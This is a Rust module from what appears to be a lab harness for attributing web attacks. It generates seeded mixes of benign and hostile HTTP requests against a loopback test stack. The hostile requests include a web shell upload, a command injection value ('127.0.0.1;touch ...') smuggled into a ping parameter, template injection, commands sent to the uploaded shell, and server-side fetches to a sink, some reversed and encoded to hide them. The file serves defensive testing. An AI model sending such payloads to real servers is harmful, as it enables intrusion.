//! What is sent: a seeded mix, in which every attack leaves a mark of its own when it works.

use std::fmt::Write as _;
use std::net::Ipv4Addr;
use std::path::Path;

use fastrand::Rng;

use super::stack::{Exploits, Stack};

/// Of a thousand requests, so many are attacks.
const ATTACKS: u32 = 60;
/// Addresses of visitors; several requests come from each at a time.
const VISITORS: u32 = 250;

/// What a mark starts with, and its length.
pub(super) const MARK: &str = "m-";
pub(super) const MARK_BYTES: usize = MARK.len() + 16;

/// What a request is after.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Aim {
    /// What any visitor sends; 200 is the answer.
    Benign,
    /// Puts the web shell where it will be called; nothing that a kernel minds.
    Upload,
    /// A program, before the answer.
    Exec,
    /// A program, after the answer.
    Later,
    /// A connection.
    Connect,
}

/// One request.
#[derive(Debug, Clone)]
pub(crate) struct Planned {
    pub(crate) aim: Aim,
    pub(crate) source: Ipv4Addr,
    pub(crate) text: String,
    /// What shows in the event that it causes: the name of the file it would make, or the address
    /// that it would reach.
    pub(crate) mark: String,
}

/// Requests of one cell, from the same seed always the same.
pub(crate) struct Mix<'a> {
    pub(crate) stack: &'a Stack,
    pub(crate) exploits: &'a Exploits,
    /// Where the marks of what worked appear.
    pub(crate) markers: &'a Path,
    /// Of this cell alone, so that no two cells have an attacker in common.
    pub(crate) cell: u8,
    /// Where connections go: at 127.77.CELL.N.
    pub(crate) sink: u16,
}

impl Mix<'_> {
    /// The web shell, then `count` requests.
    pub(crate) fn plan(&self, count: u32, seed: u64) -> Vec<Planned> {
        let mut rng = Rng::with_seed(seed);
        let mut all = vec![self.upload()];
        let mut attacks = 0;
        for nth in 0..count {
            if rng.u32(..1000) < ATTACKS {
                attacks += 1;
                all.push(self.attack(attacks, &mut rng));
            } else {
                all.push(benign(nth, &mut rng));
            }
        }
        all
    }

    /// Benign requests alone.
    pub(crate) fn calm(count: u32, seed: u64) -> Vec<Planned> {
        let mut rng = Rng::with_seed(seed);
        (0..count).map(|nth| benign(nth, &mut rng)).collect()
    }

    /// Where the `nth` attack's connection goes.
    pub(crate) fn target(&self, nth: u16) -> Ipv4Addr {
        let [high, low] = nth.to_be_bytes();
        Ipv4Addr::new(127, 77 + high, self.cell, low)
    }

    fn upload(&self) -> Planned {
        let Exploits {
            shell_name, shell, ..
        } = self.exploits;
        Planned {
            aim: Aim::Upload,
            source: self.attacker(0),
            text: format!(
                "POST /upload?name={shell_name} HTTP/1.1\r\nHost: lab\r\nContent-Length: {}\r\n\r\n{shell}",
                shell.len()
            ),
            mark: String::new(),
        }
    }

    fn attack(&self, nth: u16, rng: &mut Rng) -> Planned {
        let mark = format!("{MARK}{:016x}", rng.u64(..));
        let path = self.markers.join(&mark);
        let query = self.stack.query;
        let text = rng.alphanumeric();
        // Where a thread has one request at a time, what it did need not show in the request.
        let hidden = self.stack.by_thread && rng.bool();
        let value = |value: String| {
            if hidden {
                format!("{}&r=1", encode(&value.chars().rev().collect::<String>()))
            } else {
                encode(&value)
            }
        };
        let (aim, target) = match rng.u8(..5) {
            0 => (
                Aim::Exec,
                format!("/ping?host={}{query}", value(shell_line(&path))),
            ),
            1 => {
                let template = self
                    .exploits
                    .render
                    .replace("{path}", &path.to_string_lossy());
                (Aim::Exec, format!("/render?tpl={}{query}", value(template)))
            }
            2 => {
                let name = &self.exploits.shell_name;
                let command = encode(&format!("touch {}", path.display()));
                (Aim::Exec, format!("/uploads/{name}?cmd={command}"))
            }
            3 => {
                let command = encode(&format!("touch {}", path.display()));
                (Aim::Later, format!("/later?cmd={command}"))
            }
            _ => {
                let target = self.target(nth);
                let url = encode(&format!("http://{target}:{}/{text}", self.sink));
                return self.planned(
                    nth,
                    Aim::Connect,
                    &format!("/fetch?url={url}"),
                    target.to_string(),
                );
            }
        };
        self.planned(nth, aim, &target, mark)
    }

    fn planned(&self, nth: u16, aim: Aim, target: &str, mark: String) -> Planned {
        Planned {
            aim,
            source: self.attacker(nth),
            text: get(target),
            mark,
        }
    }

    /// Every attack has an address of its own.
    fn attacker(&self, nth: u16) -> Ipv4Addr {
        let [high, low] = nth.to_be_bytes();
        Ipv4Addr::new(127, 100 + self.cell, high, low)
    }
}

fn shell_line(path: &Path) -> String {
    format!("127.0.0.1;touch {}", path.display())
}

fn benign(nth: u32, rng: &mut Rng) -> Planned {
    let [.., high, low] = rng.u32(..VISITORS).to_be_bytes();
    let target = match rng.u8(..20) {
        0 => format!("/convert?text={}", rng.u32(2..1_000_000)),
        1 => "/file?path=hello.txt".to_owned(),
        _ => format!("/orders?n={nth}"),
    };
    Planned {
        aim: Aim::Benign,
        source: Ipv4Addr::new(127, 1, high, low + 1),
        text: get(&target),
        mark: String::new(),
    }
}

fn get(target: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: lab\r\nUser-Agent: Mozilla/5.0 (lab)\r\nAccept: application/json\r\n\r\n"
    )
}

/// Percent-encoding of everything that is not unreserved (RFC 3986, 2.3).
pub(crate) fn encode(text: &str) -> String {
    let mut encoded = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            encoded.push(byte.into());
        } else {
            let _ = write!(encoded, "%{byte:02X}");
        }
    }
    encoded
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribution::stack::STACKS;

    #[test]
    fn the_same_seed_plans_the_same_and_no_two_attacks_share_a_mark() {
        let exploits = Exploits {
            render: "run('{path}')".into(),
            shell_name: "s.php".into(),
            shell: "<?php".into(),
        };
        let mix = Mix {
            stack: &STACKS[0],
            exploits: &exploits,
            markers: Path::new("/tmp/markers"),
            cell: 3,
            sink: 99,
        };
        let (one, another) = (mix.plan(2000, 7), mix.plan(2000, 7));
        let texts = |plan: &[Planned]| plan.iter().map(|it| it.text.clone()).collect::<Vec<_>>();
        assert_eq!(texts(&one), texts(&another));
        let attacks = one.iter().filter(|it| !it.mark.is_empty());
        let mut marks: Vec<_> = attacks.map(|it| (&it.mark, it.source)).collect();
        let count = marks.len();
        marks.sort();
        marks.dedup_by_key(|(mark, _)| *mark);
        assert!(count > 60 && marks.len() == count, "{count}");
        marks.sort_by_key(|(_, source)| *source);
        marks.dedup_by_key(|(_, source)| *source);
        assert_eq!(marks.len(), count);
    }
}
